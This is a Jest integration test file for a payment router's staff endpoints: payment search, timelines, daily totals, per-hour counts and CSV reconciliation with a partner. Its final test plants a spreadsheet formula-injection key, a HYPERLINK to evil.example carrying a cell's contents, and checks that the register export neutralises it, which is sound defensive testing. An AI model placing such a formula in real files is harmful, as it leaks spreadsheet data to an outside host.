import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { randomUUID } from 'node:crypto';
import { request as httpRequest } from 'node:http';
import { sendRaw } from '../../../test/support/raw-http.js';
import { http, startService, type ServiceUnderTest } from '../../../test/support/service-harness.js';
import { asStaff } from '../../../test/support/test-credentials.js';

const INN = '01234567890123';
const INVOICE = '4000000000000002';
const NOW = '2026-11-26T12:00:00Z'; // 18:00 in Bishkek
const DAY = '2026-11-26'; // Bishkek: 2026-11-25T18:00Z … 2026-11-26T18:00Z

type Planted = {
  key: string;
  phone?: string;
  service?: 'SOCHI' | 'ECP';
  account?: string;
  amount: string;
  created: string;
  steps: Array<[string, string, string?]>;
};

/** The payments staff look for, each with its history (stage, at, reason), planted straight into the router's tables. */
const PAYMENTS: Planted[] = [
  {
    key: 'k-match',
    amount: '15000',
    created: '2026-11-26T02:00:00Z',
    steps: [
      ['AWAITING_DEBIT', '2026-11-26T02:00:00Z'],
      ['AWAITING_PAYEE', '2026-11-26T02:00:01Z'],
      ['COMPLETED', '2026-11-26T02:00:02Z'],
    ],
  },
  {
    key: 'k-amount',
    amount: '20000',
    created: '2026-11-26T03:00:00Z',
    steps: [
      ['AWAITING_DEBIT', '2026-11-26T03:00:00Z'],
      ['AWAITING_PAYEE', '2026-11-26T03:00:01Z'],
      ['COMPLETED', '2026-11-26T03:00:02Z'],
    ],
  },
  {
    key: 'k-status',
    service: 'ECP',
    account: INVOICE,
    amount: '151000',
    created: '2026-11-26T04:00:00Z',
    steps: [
      ['AWAITING_DEBIT', '2026-11-26T04:00:00Z'],
      ['AWAITING_PAYEE', '2026-11-26T04:00:01Z'],
      ['AWAITING_REFUND', '2026-11-26T04:00:02Z', 'INVOICE_EXPIRED'],
      ['REFUNDED', '2026-11-26T04:00:03Z', 'INVOICE_EXPIRED'],
    ],
  },
  {
    key: 'k-ours-only',
    amount: '5000',
    created: '2026-11-26T05:00:00Z',
    steps: [
      ['AWAITING_DEBIT', '2026-11-26T05:00:00Z'],
      ['REJECTED', '2026-11-26T05:00:01Z', 'INSUFFICIENT_FUNDS'],
    ],
  },
  // Final at 23:55 in Bishkek the day before: in the register of the 25th, not the 26th.
  {
    key: 'k-day-before',
    amount: '7000',
    created: '2026-11-25T17:50:00Z',
    steps: [
      ['AWAITING_DEBIT', '2026-11-25T17:50:00Z'],
      ['AWAITING_PAYEE', '2026-11-25T17:54:00Z'],
      ['COMPLETED', '2026-11-25T17:55:00Z'],
    ],
  },
  {
    key: 'k-stuck',
    phone: '996700000002',
    amount: '30000',
    created: '2026-11-26T11:00:00Z',
    steps: [
      ['AWAITING_DEBIT', '2026-11-26T11:00:00Z'],
      ['AWAITING_PAYEE', '2026-11-26T11:00:01Z'],
    ],
  },
  {
    key: 'k-fresh',
    amount: '1000',
    created: '2026-11-26T11:58:00Z',
    steps: [['AWAITING_DEBIT', '2026-11-26T11:58:00Z']],
  },
];

const THEIR_REGISTER = [
  'idempotency_key,phone,service,account,amount,status,paid_at',
  `k-match,996555000001,SOCHI,${INN},150.00,COMPLETED,2026-11-26T08:00:02+06:00`,
  `k-amount,996555000001,SOCHI,${INN},250.00,COMPLETED,2026-11-26T09:00:02+06:00`,
  `k-status,996555000001,ECP,${INVOICE},1510.00,COMPLETED,2026-11-26T10:00:03+06:00`,
  `k-theirs-only,996555000001,SOCHI,${INN},75.00,COMPLETED,2026-11-26T11:00:00+06:00`,
].join('\n');

describe('payment-router: what billing staff see (search, timeline, totals, reconciliation)', () => {
  let svc: ServiceUnderTest;
  const ids = new Map<string, string>();

  /** Writes a payment and its history straight into the router's tables; returns its id. */
  async function plant(p: Planted): Promise<string> {
    const id = randomUUID();
    const last = p.steps[p.steps.length - 1];
    await svc.db.query(
      `INSERT INTO payments (id, idempotency_key, request_fingerprint, phone, service, account, amount, stage, reason, created_at) VALUES ($1, $2, 'planted', $3, $4, $5, $6, $7, $8, $9)`,
      [
        id,
        `partner:megapay-dev/${p.key}`,
        p.phone ?? '996555000001',
        p.service ?? 'SOCHI',
        p.account ?? INN,
        p.amount,
        last[0],
        last[2] ?? null,
        p.created,
      ],
    );
    for (const [stage, at, reason] of p.steps)
      await svc.db.query(`INSERT INTO payment_steps (payment_id, stage, reason, at) VALUES ($1, $2, $3, $4)`, [
        id,
        stage,
        reason ?? null,
        at,
      ]);
    return id;
  }

  beforeAll(async () => {
    svc = await startService('payment-router', async () => (await import('../src/app.module.js')).AppModule);
    svc.clock.set(NOW);
    for (const p of PAYMENTS) ids.set(p.key, await plant(p));
  });

  afterAll(async () => {
    await svc?.close();
  });

  const get = async (path: string) => http(svc.baseUrl, 'GET', path, undefined, await asStaff('auditor'));
  const keysOf = (body: { items: Array<{ idempotencyKey: string }> }) => body.items.map((i) => i.idempotencyKey);

  describe('GET /v1/payments', () => {
    it('lists every payment newest first, with what a pending one waits for and when a final one ended', async () => {
      const res = await get('/v1/payments');
      expect(res.status).toBe(200);
      expect(keysOf(res.body)).toEqual([
        'k-fresh',
        'k-stuck',
        'k-ours-only',
        'k-status',
        'k-amount',
        'k-match',
        'k-day-before',
      ]);
      expect(res.body).toMatchObject({ page: 1, pageSize: 50, total: 7, totalIsExact: true });
      expect(res.body.items[1]).toEqual({
        paymentId: ids.get('k-stuck'),
        idempotencyKey: 'k-stuck',
        phone: '996700000002',
        service: 'SOCHI',
        account: INN,
        amount: '300.00',
        status: 'PENDING',
        stage: 'AWAITING_PAYEE',
        reason: null,
        createdAt: '2026-11-26T11:00:00.000Z',
        finalAt: null,
        waitingFor: 'СОЧИ credit',
      });
      expect(res.body.items[3]).toMatchObject({
        status: 'REFUNDED',
        reason: 'INVOICE_EXPIRED',
        finalAt: '2026-11-26T04:00:03.000Z',
        waitingFor: null,
      });
      expect(res.body.items[0]).toMatchObject({ waitingFor: 'wallet debit and СОЧИ credit' });
    });

    it('names both the debit and the invoice payment for an ЭЦП payment its payee has not answered yet', async () => {
      // The wallet sends a debited ЭЦП payment on to ecp-invoicing itself: the router cannot tell which one it awaits.
      // Planted for this test only, so as not to change what the others count.
      const id = await plant({
        key: 'k-ecp-fresh',
        service: 'ECP',
        account: INVOICE,
        amount: '151000',
        created: '2026-11-26T11:59:00Z',
        steps: [['AWAITING_DEBIT', '2026-11-26T11:59:00Z']],
      });
      try {
        expect((await get(`/v1/payments?paymentId=${id}`)).body.items).toEqual([
          expect.objectContaining({
            service: 'ECP',
            status: 'PENDING',
            stage: 'AWAITING_DEBIT',
            waitingFor: 'wallet debit and ЭЦП invoice payment',
          }),
        ]);
      } finally {
        await svc.db.query(`DELETE FROM payment_steps WHERE payment_id = $1`, [id]);
        await svc.db.query(`DELETE FROM payments WHERE id = $1`, [id]);
      }
    });

    it.each([
      [`phone=996700000002`, ['k-stuck']],
      [`account=${INVOICE}`, ['k-status']],
      [`idempotencyKey=k-amount`, ['k-amount']],
      [`status=REJECTED,REFUNDED`, ['k-ours-only', 'k-status']],
      [`status=PENDING&service=SOCHI`, ['k-fresh', 'k-stuck']],
      [`reason=INSUFFICIENT_FUNDS`, ['k-ours-only']],
      [`from=2026-11-26T03:00:00Z&to=2026-11-26T05:00:00Z`, ['k-status', 'k-amount']],
      [`from=2026-11-26T09:00:00%2B06:00&to=2026-11-26T10:00:00%2B06:00`, ['k-amount']],
      [`stuck=true`, ['k-stuck']],
      [`stuck=true&stuckAfterMinutes=1`, ['k-fresh', 'k-stuck']],
      [`sort=amount&pageSize=3`, ['k-fresh', 'k-ours-only', 'k-day-before']],
      [`sort=-amount&pageSize=2&page=2`, ['k-amount', 'k-match']],
      [`sort=createdAt&pageSize=2&page=1`, ['k-day-before', 'k-match']],
    ])('filters, sorts and pages on the server: %s', async (query, keys) => {
      const res = await get(`/v1/payments?${query}`);
      expect(res.status).toBe(200);
      expect(keysOf(res.body)).toEqual(keys);
    });

    it('finds a payment by its id and counts every match, not only the page', async () => {
      expect(keysOf((await get(`/v1/payments?paymentId=${ids.get('k-match')}`)).body)).toEqual(['k-match']);
      expect((await get('/v1/payments?pageSize=2&page=4')).body).toMatchObject({
        total: 7,
        page: 4,
        pageSize: 2,
        items: [{ idempotencyKey: 'k-day-before' }],
      });
    });

    it('refuses filters it cannot read, naming the field', async () => {
      const res = await get('/v1/payments?status=LOST&pageSize=500&from=yesterday');
      expect(res.status).toBe(400);
      expect(res.body.errors.map((e: { field: string }) => e.field).sort()).toEqual(['from', 'pageSize', 'status']);
    });

    it('is for staff only: the MegaPay backend is refused', async () => {
      const res = await http(svc.baseUrl, 'GET', '/v1/payments');
      expect(res.status).toBe(403);
    });
  });

  it("GET /v1/payments/{id}/timeline tells the payment's story, each step with the service that caused it", async () => {
    const res = await get(`/v1/payments/${ids.get('k-status')}/timeline`);
    expect(res.status).toBe(200);
    expect(res.body.payment).toMatchObject({ paymentId: ids.get('k-status'), status: 'REFUNDED', account: INVOICE });
    expect(res.body.events).toEqual([
      { at: '2026-11-26T04:00:00.000Z', service: 'payment-router', step: 'REQUESTED', reason: null },
      { at: '2026-11-26T04:00:01.000Z', service: 'wallet', step: 'DEBITED', reason: null },
      { at: '2026-11-26T04:00:02.000Z', service: 'ecp-invoicing', step: 'PAYEE_REFUSED', reason: 'INVOICE_EXPIRED' },
      { at: '2026-11-26T04:00:03.000Z', service: 'wallet', step: 'REFUNDED', reason: 'INVOICE_EXPIRED' },
    ]);
    expect((await get(`/v1/payments/${randomUUID()}/timeline`)).body.code).toBe('PAYMENT_NOT_FOUND');
  });

  it('GET /v1/payments/{id} still answers as before', async () => {
    const res = await http(svc.baseUrl, 'GET', `/v1/payments/${ids.get('k-match')}`);
    expect(res.body).toMatchObject({ id: ids.get('k-match'), status: 'COMPLETED', amount: '150.00' });
  });

  it("GET /v1/payments/summary totals a Bishkek day's payments per service and status; today by default", async () => {
    const expected = {
      date: DAY,
      totals: [
        { service: 'SOCHI', status: 'COMPLETED', count: 2, amount: '350.00' },
        { service: 'SOCHI', status: 'PENDING', count: 2, amount: '310.00' },
        { service: 'SOCHI', status: 'REJECTED', count: 1, amount: '50.00' },
        { service: 'ECP', status: 'REFUNDED', count: 1, amount: '1510.00' },
      ],
    };
    expect((await get(`/v1/payments/summary?date=${DAY}`)).body).toEqual(expected);
    expect((await get('/v1/payments/summary')).body).toEqual(expected);
    expect((await get('/v1/payments/summary?date=2026-11-25')).body).toEqual({
      date: '2026-11-25',
      totals: [{ service: 'SOCHI', status: 'COMPLETED', count: 1, amount: '70.00' }],
    });
    expect((await get('/v1/payments/summary?date=2026-02-30')).status).toBe(400);
  });

  it('GET /v1/payments/per-hour counts each of the last hours up to the clock, empty hours too', async () => {
    expect((await get('/v1/payments/per-hour?hours=3')).body).toEqual({
      hours: [
        { hourStart: '2026-11-26T10:00:00.000Z', count: 0, amount: '0.00' },
        { hourStart: '2026-11-26T11:00:00.000Z', count: 2, amount: '310.00' },
        { hourStart: '2026-11-26T12:00:00.000Z', count: 0, amount: '0.00' },
      ],
    });
    const day = (await get('/v1/payments/per-hour')).body.hours;
    expect(day).toHaveLength(24);
    expect(day.reduce((n: number, h: { count: number }) => n + h.count, 0)).toBe(7);
  });

  describe('the daily reconciliation with MegaPay', () => {
    const reconcile = async (register: string, roles: Parameters<typeof asStaff> = ['billing']) =>
      http(
        svc.baseUrl,
        'POST',
        `/v1/reconciliation/days/${DAY}`,
        { megapayRegister: register },
        await asStaff(...roles),
      );

    it('has nothing saved for a day not yet reconciled', async () => {
      expect((await get(`/v1/reconciliation/days/${DAY}`)).body).toMatchObject({
        status: 404,
        code: 'RECONCILIATION_NOT_FOUND',
      });
    });

    it("downloads our register of the day's final payments as CSV", async () => {
      const res = await sendRaw(
        svc.baseUrl,
        'GET',
        `/v1/reconciliation/days/${DAY}/register`,
        undefined,
        await asStaff('auditor'),
      );
      expect(res.status).toBe(200);
      expect(res.contentType).toMatch(/^text\/csv/);
      expect(res.body).toBe(
        [
          'idempotency_key,payment_id,phone,service,account,amount,status,final_at',
          `k-amount,${ids.get('k-amount')},996555000001,SOCHI,${INN},200.00,COMPLETED,2026-11-26T03:00:02.000Z`,
          `k-match,${ids.get('k-match')},996555000001,SOCHI,${INN},150.00,COMPLETED,2026-11-26T02:00:02.000Z`,
          `k-ours-only,${ids.get('k-ours-only')},996555000001,SOCHI,${INN},50.00,REJECTED,2026-11-26T05:00:01.000Z`,
          `k-status,${ids.get('k-status')},996555000001,ECP,${INVOICE},1510.00,REFUNDED,2026-11-26T04:00:03.000Z`,
          '',
        ].join('\r\n'),
      );
    });

    it('refuses a register it cannot read, naming the line, and keeps nothing', async () => {
      const res = await reconcile(
        `${THEIR_REGISTER}\nk-bad,996555000001,SOCHI,${INN},12.5,COMPLETED,2026-11-26T11:00:00+06:00`,
      );
      expect(res.status).toBe(422);
      expect(res.body).toMatchObject({ code: 'REGISTER_UNREADABLE', line: 6 });
      expect(res.body.detail).toMatch(/^line 6: amount 12.5/);
      expect((await get(`/v1/reconciliation/days/${DAY}`)).status).toBe(404);
    });

    it('is for billing: an auditor may not reconcile', async () => {
      expect((await reconcile(THEIR_REGISTER, ['auditor'])).body).toMatchObject({
        status: 403,
        code: 'ROLE_FORBIDDEN',
      });
    });

    it('compares, saves and answers each kind of difference with totals per service and status', async () => {
      const res = await reconcile(THEIR_REGISTER);
      expect(res.status).toBe(200);
      expect(res.body).toMatchObject({
        date: DAY,
        comparedAt: '2026-11-26T12:00:00.000Z',
        counts: {
          matched: 1,
          missingOnOurSide: 1,
          missingOnTheirs: 1,
          amountDiffers: 1,
          statusDiffers: 1,
          detailsDiffer: 0,
        },
        unresolved: 4,
        flagged: true,
      });
      expect(res.body.totals.perService).toEqual([
        { service: 'SOCHI', ours: { count: 3, amount: '400.00' }, theirs: { count: 3, amount: '475.00' } },
        { service: 'ECP', ours: { count: 1, amount: '1510.00' }, theirs: { count: 1, amount: '1510.00' } },
      ]);
      expect(res.body.totals.perStatus).toContainEqual({
        status: 'REFUNDED',
        ours: { count: 1, amount: '1510.00' },
        theirs: { count: 0, amount: '0.00' },
      });
      expect(
        res.body.differences.map((d: { kind: string; idempotencyKey: string }) => [d.kind, d.idempotencyKey]),
      ).toEqual([
        ['amountDiffers', 'k-amount'],
        ['missingOnTheirs', 'k-ours-only'],
        ['statusDiffers', 'k-status'],
        ['missingOnOurSide', 'k-theirs-only'],
      ]);
      expect(res.body.differences[0]).toMatchObject({
        paymentId: ids.get('k-amount'),
        ours: { amount: '200.00', status: 'COMPLETED', at: '2026-11-26T03:00:02.000Z' },
        theirs: { amount: '250.00', status: 'COMPLETED', at: '2026-11-26T03:00:02.000Z' },
        resolution: null,
      });
      expect(res.body.differences[3]).toMatchObject({ paymentId: null, ours: null, theirs: { amount: '75.00' } });
      expect((await get(`/v1/reconciliation/days/${DAY}`)).body).toEqual(res.body);
    });

    it('resolves a difference with a note (billing, audited); the day stays flagged while others are open', async () => {
      const saved = (await get(`/v1/reconciliation/days/${DAY}`)).body;
      const amount = saved.differences.find((d: { kind: string }) => d.kind === 'amountDiffers');
      const path = `/v1/reconciliation/days/${DAY}/differences/${amount.id}/resolution`;
      expect((await http(svc.baseUrl, 'POST', path, { note: 'x' }, await asStaff('auditor'))).status).toBe(403);
      const res = await http(
        svc.baseUrl,
        'POST',
        path,
        { note: 'MegaPay charged a 50.00 fee on its side' },
        await asStaff('billing'),
      );
      expect(res.status).toBe(200);
      expect(res.body).toMatchObject({
        id: amount.id,
        resolution: {
          note: 'MegaPay charged a 50.00 fee on its side',
          by: 'staff:staff-billing',
          at: '2026-11-26T12:00:00.000Z',
        },
      });
      expect((await get(`/v1/reconciliation/days/${DAY}`)).body).toMatchObject({ unresolved: 3, flagged: true });
      expect(
        (
          await http(
            svc.baseUrl,
            'POST',
            `/v1/reconciliation/days/${DAY}/differences/999999/resolution`,
            { note: 'x' },
            await asStaff('billing'),
          )
        ).body.code,
      ).toBe('DIFFERENCE_NOT_FOUND');
      const audit = await svc.db.query(
        `SELECT action, actor FROM audit_trail WHERE subject LIKE 'reconciliation:${DAY}%' ORDER BY id`,
      );
      expect(audit.rows).toEqual([
        { action: 'payments.day-reconciled', actor: 'staff:staff-billing' },
        { action: 'payments.reconciliation-difference-resolved', actor: 'staff:staff-billing' },
      ]);
    });

    it('lists reconciled days with their counts and whether they are flagged', async () => {
      const res = await get('/v1/reconciliation/days?from=2026-11-01&to=2026-11-30');
      expect(res.body).toEqual([
        {
          date: DAY,
          comparedAt: '2026-11-26T12:00:00.000Z',
          counts: expect.objectContaining({ matched: 1 }),
          unresolved: 3,
          flagged: true,
        },
      ]);
      expect((await get('/v1/reconciliation/days')).body).toHaveLength(1);
      expect((await get('/v1/reconciliation/days?from=2026-10-01&to=2026-10-31')).body).toEqual([]);
    });

    it('replaces the day on a new upload, keeping a note only where the same difference comes back unchanged', async () => {
      svc.clock.set('2026-11-26T13:00:00Z');
      const again = await reconcile(THEIR_REGISTER);
      expect(again.body).toMatchObject({ comparedAt: '2026-11-26T13:00:00.000Z', unresolved: 3 });
      expect(again.body.differences.find((d: { kind: string }) => d.kind === 'amountDiffers').resolution).toMatchObject(
        { note: 'MegaPay charged a 50.00 fee on its side' },
      );

      const corrected = await reconcile(THEIR_REGISTER.replace('250.00', '260.00').replace(/\nk-theirs-only.*$/, ''));
      expect(corrected.body).toMatchObject({
        counts: { matched: 1, amountDiffers: 1, missingOnOurSide: 0 },
        unresolved: 3,
      });
      expect(corrected.body.differences.every((d: { resolution: unknown }) => d.resolution === null)).toBe(true);
      svc.clock.set(NOW);
    });

    it('takes a register larger than the 100 kB other requests are held to (a busy day)', async () => {
      const lines = Array.from(
        { length: 3000 },
        (_, i) => `k-bulk-${i},996555000001,SOCHI,${INN},10.00,COMPLETED,2026-11-26T11:00:00+06:00`,
      );
      const register = [THEIR_REGISTER, ...lines].join('\n');
      expect(register.length).toBeGreaterThan(200_000);
      // Last, on another day: this is about the size only.
      const res = await http(
        svc.baseUrl,
        'POST',
        '/v1/reconciliation/days/2026-11-20',
        { megapayRegister: register },
        await asStaff('billing'),
      );
      expect(res.status).toBe(200);
      expect(res.body.counts.missingOnOurSide).toBe(3004);
    });

    it('refuses an anonymous large upload 401 before reading its body', async () => {
      // Announces 10 MB, sends 64 kB and waits: the answer must come while the rest is still unsent.
      const answer = await new Promise<{ status: number; body: string }>((resolve, reject) => {
        const req = httpRequest(`${svc.baseUrl}/v1/reconciliation/days/2026-11-21`, {
          method: 'POST',
          headers: { 'content-type': 'application/json', 'content-length': String(10 * 1024 * 1024) },
        });
        req.on('response', (res) => {
          let body = '';
          res.on('data', (c: Buffer) => (body += c.toString()));
          res.on('end', () => {
            req.destroy();
            resolve({ status: res.statusCode ?? 0, body });
          });
        });
        req.on('error', reject);
        req.write(`{"megapayRegister":"${'x'.repeat(64 * 1024)}`);
      });
      expect(answer.status).toBe(401);
      expect(JSON.parse(answer.body).code).toBe('TOKEN_MISSING');
    });

    it("defuses a partner's key that a spreadsheet would run as a formula (a key stored before the edge rule)", async () => {
      const key = '=HYPERLINK("https://evil.example/?"&C2,"x")';
      // Last, on a day of its own: planted straight into the table, as the edge no longer takes such a key.
      const id = await plant({
        key,
        amount: '15000',
        created: '2026-11-19T04:00:00Z',
        steps: [
          ['AWAITING_DEBIT', '2026-11-19T04:00:00Z'],
          ['COMPLETED', '2026-11-19T04:00:01Z'],
        ],
      });
      const res = await sendRaw(
        svc.baseUrl,
        'GET',
        '/v1/reconciliation/days/2026-11-19/register',
        undefined,
        await asStaff('auditor'),
      );
      expect(res.status).toBe(200);
      expect(res.body.split('\r\n')[1]).toBe(
        `"'=HYPERLINK(""https://evil.example/?""&C2,""x"")",${id},996555000001,SOCHI,${INN},150.00,COMPLETED,2026-11-19T04:00:01.000Z`,
      );
    });
  });
});
